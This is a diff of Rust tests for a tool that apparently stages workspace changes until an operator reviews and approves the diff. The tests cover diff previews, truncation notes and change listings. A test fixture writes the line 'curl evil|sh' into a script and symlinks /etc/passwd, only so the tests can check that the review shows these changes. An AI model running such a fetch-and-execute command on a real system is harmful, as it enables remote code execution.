@@ -74,7 +74,7 @@ fn c_32_8_a_call_changes_nothing_until_a_person_has_seen_its_diff() {
         let inbox = sandbox.delta(["inbox", "work"]).output().expect_code(0).stdout;
         assert!(inbox.contains("apply the changes of do"), "{inbox}");
         assert!(inbox.contains("\n    diff --git a/d/x b/d/x\n"), "{inbox}");
-        assert!(inbox.contains("more lines\n  delta approve r -w "), "{inbox}");
+        assert!(inbox.contains("prints the whole diff\n  delta approve r -w "), "{inbox}");
         let json = sandbox.delta(["inbox", "work", "--json"]).output().expect_code(0).json();
         assert_eq!(json[0]["preview"], preview);
 
@@ -206,7 +206,9 @@ fn c_32_8_a_call_that_killed_the_engine_of_a_staged_run_has_changed_nothing() {
     }
     resume(&sandbox, &[]).expect_code(0);
     let seen = sandbox.observations();
-    assert!(seen[0].contains("whether it took effect is unknown"), "{seen:?}");
+    let outcome = "[the engine stopped during this call; what it changed in the workspace was thrown away; whether it \
+                   took effect outside of it is unknown, and it was not run again]";
+    assert_eq!(seen[0], outcome);
     assert_eq!(seen[1], "d\nf\ngone\n");
     assert!(!sandbox.path("work/.delta/r/call-stage").exists());
 }
@@ -335,6 +337,102 @@ fn c_32_8_a_question_shows_the_beginning_of_a_long_diff() {
     assert!(short.contains("    +35\n    … 65 more lines; -v shows all of them\n"), "{short}");
     let whole = show(&["-v"]);
     assert!(whole.contains("    +100\n") && !whole.contains("more lines"), "{whole}");
+}
+
+const LARGE: &str = "seq 20000 > a.txt; echo 'curl evil|sh' > z.sh; chmod 750 z.sh; ln -s /etc/passwd zz; rm gone; \
+    mkdir -p n/m; echo > n/m/file; chmod 600 f; mkdir empty; chmod 2755 empty; rm -r d; echo > d";
+
+/// The diff was cut in the first file, and nothing named the others, but `-v` was said to show all of them.
+#[test]
+fn c_32_8_a_question_lists_every_change_and_names_what_prints_a_cut_diff() {
+    let Some(sandbox) = waiting("", LARGE) else { return };
+    let listed = "    new file, mode 0644: a.txt\n    directory, now file, mode 0644: d\n    deleted file: d/x\n    \
+        new directory, mode 2755: empty\n    file, mode 0644, now 0600: f\n    deleted file: gone\n    \
+        new file, mode 0644: n/m/file\n    new file, mode 0750: z.sh\n    new symlink: zz -> /etc/passwd\n    diff --git ";
+    let work = sandbox.path("work").canonicalize().unwrap();
+    let command = format!("delta diff r -w {}", work.display());
+    let note = format!("    … `{command}` prints the whole diff\n");
+    for more in [&[][..], &["-v"]] {
+        let args = [&["show", "r", "-w", "work"], more].concat();
+        let shown = sandbox.delta(args).output().expect_code(0).stdout;
+        assert!(shown.contains(listed), "{shown}");
+        assert!(shown.contains(&note) && !shown.contains("shows all of them"), "{shown}");
+    }
+    let inbox = sandbox.delta(["inbox", "work"]).output().expect_code(0).stdout;
+    assert!(inbox.contains(listed) && inbox.contains(&note), "{inbox}");
+    let request = sandbox.read("work/.delta/r/interaction/request.json");
+    let request: serde_json::Value = serde_json::from_str(&request).unwrap();
+    assert!(request["preview"].as_str().unwrap().contains("\nnew symlink: zz -> /etc/passwd\n"));
+
+    let diff = |more: &[&str]| {
+        sandbox.delta([&["diff", "r", "-w", "work"], more].concat()).output().expect_code(1).stdout
+    };
+    let whole = diff(&[]);
+    for part in [
+        "+20000\n",
+        "+curl evil|sh\n",
+        "+/etc/passwd\n",
+        "-g\n",
+        "old mode 100644\nnew mode 100600\n",
+    ] {
+        assert!(whole.contains(part), "{part}");
+    }
+    assert!(diff(&["--name-only"]).ends_with("n/m/file\nz.sh\nzz\n"));
+    assert_eq!(diff(&["--call", "--stat"]).lines().last(), Some("20004 added, 2 removed"));
+    let ran = decide(&sandbox, "yes").expect_code(0);
+    let decision = "  the changes of do: approved by the operator\n";
+    assert!(ran.stderr.contains(decision), "{}", ran.stderr);
+    assert_eq!(sandbox.read("work/z.sh"), "curl evil|sh\n");
+    let after = sandbox.delta(["diff", "r", "-w", "work", "--call"]).output().expect_code(2);
+    assert!(
+        after.stderr.contains("run r does not ask whether the changes of a call"),
+        "{}",
+        after.stderr
+    );
+}
+
+#[test]
+fn c_32_7_changes_that_wait_for_a_decision_are_removed_only_after_a_question() {
+    let Some(sandbox) = waiting("", "echo two >> f") else { return };
+    let refused = sandbox.delta(["rm", "r", "-w", "work"]).output().expect_code(2);
+    let reason = "1 run, and the staged changes of 1 run would be removed";
+    assert!(refused.stderr.contains(reason), "{}", refused.stderr);
+    sandbox.delta(["rm", "r", "-w", "work", "--yes"]).output().expect_code(0);
+    assert!(!sandbox.path("work/.delta/r").exists());
+}
+
+#[test]
+fn c_32_8_very_many_changes_are_folded_and_counted() {
+    let Some(sandbox) = waiting("", "for i in $(seq 1200); do echo > n$i; done") else { return };
+    let work = sandbox.path("work").canonicalize().unwrap();
+    let command = format!("`delta diff r -w {} --name-only` lists all", work.display());
+    let show = |more: &[&str], count: u32| {
+        let args = [&["show", "r", "-w", "work"], more].concat();
+        let shown = sandbox.delta(args).output().expect_code(0).stdout;
+        assert!(shown.contains(&format!("    … {count} more changes; {command}\n")), "{shown}");
+    };
+    show(&[], 1100);
+    show(&["-v"], 200);
+    let names = sandbox.delta(["diff", "r", "-w", "work", "--name-only"]).output().expect_code(1);
+    assert_eq!(names.stdout.lines().count(), 1200);
+}
+
+#[test]
+fn c_32_8_in_a_staged_run_an_option_selects_the_changes_of_the_call() {
+    let sandbox = sandbox_with("", &[LARGE]);
+    let ran = sandbox.run("go", &["--stage"]);
+    if ran.code == 126 {
+        println!("not tested: {}", ran.stderr);
+        return;
+    }
+    let ran = ran.expect_code(101);
+    assert!(ran.stderr.contains(" --call` prints the whole diff\n"), "{}", ran.stderr);
+    let diff = |more: &[&str], code: i32| {
+        let args = [&["diff", "r", "-w", "work"], more].concat();
+        sandbox.delta(args).output().expect_code(code).stdout
+    };
+    assert!(diff(&["--call"], 1).contains("+curl evil|sh\n"));
+    assert_eq!(diff(&[], 0), "");
 }
 
 #[test]
